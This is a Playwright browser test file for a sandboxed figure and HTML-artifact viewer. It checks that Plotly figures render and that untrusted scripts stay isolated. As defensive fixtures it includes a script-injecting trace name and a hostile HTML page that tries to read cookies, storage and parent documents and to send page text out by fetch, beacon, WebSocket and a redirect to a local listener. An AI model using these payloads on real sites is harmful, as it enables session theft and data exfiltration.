"""Figures in Chromium: Plotly draws them in their frame, and scripts of other people's HTML run where they reach nothing."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Frame, Page

from accounts.models import User
from repos.models import Repository
from tests.browser.checking import ARTIFACTS, check_page, open_page, watched
from tests.browser.conftest import Visitor
from tests.browser.pages import RUN
from tests.factories.tracking import make_artifact
from tracking.models import Run

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

FIGURE = {
    "data": [
        {"type": "scatter", "x": [1, 2, 3], "y": [4, 1, 3], "name": "</script><script>window.stolen = 1</script>"},
        {"type": "bar", "x": [1, 2, 3], "y": [2, 2, 1], "name": "bars"},
    ],
    "layout": {"title": {"text": "Loss by epoch"}, "width": 1800, "template": {"layout": {"paper_bgcolor": "white"}}},
}
GL = {"data": [{"type": "scattergl", "mode": "markers", "x": [1, 2], "y": [3, 4]}], "layout": {}}
BROKEN = {"data": ["no trace", 7], "layout": {"xaxis": "no axis"}}
# As bokeh and others write it: everything within the file.
HARMLESS = b"""<!doctype html><meta charset="utf-8"><style>p { color: green }</style><div id="root"></div>
<script type="application/json" id="data">[3, 1, 2]</script>
<script>
const values = JSON.parse(document.getElementById("data").textContent);
const canvas = document.createElement("canvas");
document.getElementById("root").append(canvas);
const pen = canvas.getContext("2d");
values.forEach((value, at) => pen.fillRect(at * 20, 0, 15, value * 20));
const made = new Function("return 'drawn'")();
document.body.dataset.state = pen.getImageData(5, 5, 1, 1).data[3] === 255 ? made : "empty";
</script>"""
# As plotly.py writes it, and mlflow.log_figure with it: the library lies elsewhere.
FROM_PLOTLY = b"""<html><head><meta charset="utf-8" /></head><body><div>
<script type="text/javascript">window.PlotlyConfig = {MathJaxConfig: 'local'};</script>
<script charset="utf-8" src="https://cdn.plot.ly/plotly-3.1.0.min.js" integrity="sha256-x=" crossorigin="anonymous"></script>
<div id="one" style="height:100%; width:100%;"></div><script type="text/javascript">window.PLOTLYENV=window.PLOTLYENV || {};
if (document.getElementById("one")) { Plotly.newPlot("one", [{"x":[1,2],"y":[3,4],"type":"scatter"}], {}, {"responsive": true}) };
</script></div></body></html>"""
PAINTED = """() => [...document.querySelectorAll("canvas")].some((each) => {
  const copy = document.createElement("canvas");
  [copy.width, copy.height] = [each.width, each.height];
  const pen = copy.getContext("2d");
  pen.drawImage(each, 0, 0);
  return pen.getImageData(0, 0, copy.width, copy.height).data.some((value) => value > 0);
})"""
HOSTILE = """<!doctype html><body><a id="up" target="_top" href="AWAY/top-link">x</a><a id="new" target="_blank" href="AWAY/blank">x</a>
<form id="form" method="post" action="AWAY/form"><input name="a" value="b"></form>
<link rel="prefetch" href="AWAY/prefetch"><link rel="stylesheet" href="AWAY/style"><img src="AWAY/img">
<iframe src="AWAY/frame"></iframe><object data="AWAY/object"></object><script src="AWAY/script"></script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["AWAY/speculation"]}]}</script>
<style>@import "AWAY/import"; @font-face { font-family: far; src: url(AWAY/font) } p { font-family: far; background: url(AWAY/bg) }</style>
<p>text</p>
<script>
const got = {};
const attempt = (name, what) => { try { got[name] = String(what()); } catch (error) { got[name] = "refused " + error.name; } };
const later = (name, what) => { got[name] = "asked"; what().then((x) => got[name] = "got " + x, (e) => got[name] = "refused " + e.name); };
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.cookie);
attempt("frame", () => frameElement.src);
attempt("popup", () => window.open("AWAY/popup"));
attempt("origin", () => self.origin);
attempt("xhr", () => { const one = new XMLHttpRequest(); one.open("GET", "AWAY/xhr", false); one.send(); });
attempt("beacon", () => navigator.sendBeacon("AWAY/beacon", "x"));
attempt("topnav", () => { top.location = "AWAY/topnav"; });
attempt("parentnav", () => { parent.location = "AWAY/parentnav"; });
attempt("form", () => document.getElementById("form").submit());
attempt("click", () => { document.getElementById("up").click(); document.getElementById("new").click(); });
attempt("image", () => { new Image().src = "AWAY/image"; });
attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('AWAY/worker')"]))); });
attempt("inner", () => { const one = document.createElement("iframe"); one.srcdoc = "<script>fetch('AWAY/srcdoc'); location = 'AWAY/srcdocnav'<\\/script>"; document.body.append(one); });
attempt("socket", () => new WebSocket("AWAY/socket".replace("http", "ws")));
attempt("events", () => new EventSource("AWAY/events"));
later("fetch", () => fetch("AWAY/fetch"));
later("blind", () => fetch("AWAY/blind", { mode: "no-cors", method: "POST", body: "x" }));
later("hub", () => fetch("/"));
later("import", () => import("AWAY/import.js"));
attempt("indexed", () => indexedDB.open("x").readyState);
window.told = got;
setTimeout(() => { document.body.dataset.state = "tried"; }, 700);
// And at last, by itself: nothing of this document can forbid that.
setTimeout(() => { location = "AWAY/self?leak=" + encodeURIComponent(document.body.innerText); }, 1500);
</script>"""


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else, on another port: its address, and what arrives there."""
    arrived: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", arrived
    server.shutdown()
    server.server_close()


@pytest.fixture
def figures(tracked: None, repo: Repository, listener: tuple[str, list[str]]) -> None:
    """The figures among the artifacts of a run."""
    run = Run.objects.get(uuid=RUN.rpartition("/")[2])
    for name, content in {
        "loss.json": json.dumps(FIGURE).encode(),
        "gl.json": json.dumps(GL).encode(),
        "broken.json": json.dumps(BROKEN).encode(),
        "bokeh.html": HARMLESS,
        "still.html": b"<h1>Still</h1>",
        "plotly.html": FROM_PLOTLY,
        "hostile.html": HOSTILE.replace("AWAY", listener[0]).encode(),
    }.items():
        make_artifact(repo, run, f"figures/{name}", content)


def frame_of(page: Page) -> Frame:
    """The document in the frame of a page."""
    found = page.locator("iframe.viewer__frame").element_handle().content_frame()
    assert found is not None
    return found


@pytest.mark.parametrize(
    "place", ["loss.json", "loss.json?show=json", "still.html", "bokeh.html?show=scripts", "plotly.html?show=scripts"]
)
def test_pages_of_figures_pass_every_check(
    place: str, figures: None, cast: dict[str, User | None], visit: Visitor
) -> None:
    name = place.replace(".", "-").replace("?", "-").replace("=", "-")
    check_page(visit(cast["bob"]), f"{RUN}/artifacts/figures/{place}", picture=f"figure-{name}")


def test_a_plotly_figure_is_drawn_in_an_origin_of_its_own(
    figures: None, cast: dict[str, User | None], visit: Visitor
) -> None:
    page = visit(cast["bob"])
    with watched(page) as troubles:
        open_page(page, f"{RUN}/artifacts/figures/loss.json")
        frame = frame_of(page)
        frame.wait_for_selector("html[data-drawn]")
        assert frame.locator(".gtitle").text_content() == "Loss by epoch"
        assert frame.locator(".scatterlayer .trace").count() == 1 and frame.locator(".barlayer .trace").count() == 1
        # Text of the figure stays text, and the figure is as wide as its frame.
        assert frame.evaluate("window.stolen") is None and frame.evaluate("self.origin") == "null"
        assert frame.evaluate("document.documentElement.scrollWidth <= innerWidth")
        frame.locator(".scatterlayer .point").first.hover(force=True)
        frame.locator(".hoverlayer .hovertext").first.wait_for()
        page.get_by_role("link", name="As JSON").click()
        page.locator(".viewer__tree").wait_for()
        page.get_by_role("link", name="Figure", exact=True).click()
        page.locator("iframe").wait_for()
    assert troubles == [] and page.evaluate("window.__violations") == []


def test_a_figure_follows_a_dark_page(figures: None, cast: dict[str, User | None], visit: Visitor) -> None:
    page = visit(cast["bob"], color_scheme="dark", viewport={"width": 390, "height": 800})
    open_page(page, f"{RUN}/artifacts/figures/loss.json")
    frame = frame_of(page)
    frame.wait_for_selector("html[data-drawn]")
    assert frame.evaluate("getComputedStyle(document.querySelector('.gtitle')).fill") == "rgb(221, 221, 221)"
    # On a phone too the whole of it is within its frame.
    assert (
        frame.evaluate("[document.documentElement.scrollWidth, document.querySelector('.main-svg').clientWidth]")
        == [frame.evaluate("innerWidth")] * 2
    )
    page.locator("iframe").scroll_into_view_if_needed()
    page.locator("iframe").screenshot(path=ARTIFACTS / "figure-phone-dark.png")


def test_points_drawn_by_the_graphics_card(figures: None, cast: dict[str, User | None], visit: Visitor) -> None:
    page = visit(cast["bob"])
    open_page(page, f"{RUN}/artifacts/figures/gl.json")
    frame = frame_of(page)
    frame.wait_for_selector("html[data-drawn], #said:has-text('cannot draw')")
    assert frame.locator("#said").inner_text() == ""
    # Plotly says nothing where its policy keeps it from drawing: what counts is that something is on the canvas.
    frame.wait_for_function(PAINTED)


def test_a_figure_that_plotly_refuses_is_told(figures: None, cast: dict[str, User | None], visit: Visitor) -> None:
    page = visit(cast["bob"])
    open_page(page, f"{RUN}/artifacts/figures/broken.json")
    frame = frame_of(page)
    frame.wait_for_function(
        "document.documentElement.dataset.drawn !== undefined || /cannot draw/.test(said.innerText)"
    )
    assert page.get_by_role("link", name="As JSON").count() == 1


@pytest.mark.parametrize("name", ["bokeh.html", "plotly.html"])
def test_scripts_run_when_somebody_asks_for_it(
    name: str, figures: None, cast: dict[str, User | None], visit: Visitor
) -> None:
    page = visit(cast["bob"])
    drawn = {"bokeh.html": "body[data-state=drawn]", "plotly.html": ".scatterlayer .trace"}[name]
    open_page(page, f"{RUN}/artifacts/figures/{name}")
    assert frame_of(page).locator(drawn).count() == 0
    page.get_by_role("link", name="Run its scripts").click()
    page.wait_for_url("**?show=scripts")
    page.locator("iframe[src$='?scripts']").wait_for()
    frame_of(page).wait_for_selector(drawn, state="attached")
    assert frame_of(page).evaluate("self.origin") == "null"
    page.get_by_role("link", name="Stop its scripts").click()
    page.locator("iframe:not([src$='?scripts'])").wait_for()
    assert frame_of(page).locator(drawn).count() == 0


def test_hostile_scripts_reach_nothing(
    figures: None, listener: tuple[str, list[str]], cast: dict[str, User | None], visit: Visitor
) -> None:
    # The attack: an artifact that reads the reader's session, or sends what it finds to a server of its author.
    page = visit(cast["bob"])
    opened: list[Page] = []
    page.context.on("page", lambda one: opened.append(one))
    page.goto(f"{RUN}/artifacts/figures/hostile.html?show=scripts")
    here = page.url
    frame = frame_of(page)
    frame.wait_for_selector("body[data-state=tried]")
    told = frame.evaluate("told")
    for name in ("cookie", "storage", "parent", "top", "topnav", "parentnav", "indexed", "xhr"):
        assert told[name].startswith("refused"), (name, told[name])
    for name in ("fetch", "blind", "hub", "import"):
        assert told[name].startswith("refused"), (name, told[name])
    assert told["popup"] == "null" and told["origin"] == "null" and told["frame"].startswith(("refused", "null"))
    page.wait_for_timeout(2500)
    url, arrived = listener
    assert arrived == [] and opened == [] and page.url == here
    # It has tried to lead itself away, and was stopped by the page around it.
    assert not frame_of(page).url.startswith(url)


def test_an_html_file_opened_by_itself_stands_still(
    figures: None, listener: tuple[str, list[str]], cast: dict[str, User | None], visit: Visitor
) -> None:
    # The attack: a link to the frame's own address, where no page around it forbids it to lead itself away.
    page = visit(cast["bob"])
    page.goto(f"{RUN}/frame/figures/hostile.html?scripts")
    page.wait_for_timeout(2500)
    assert listener[1] == [] and page.url.endswith("/frame/figures/hostile.html?scripts")
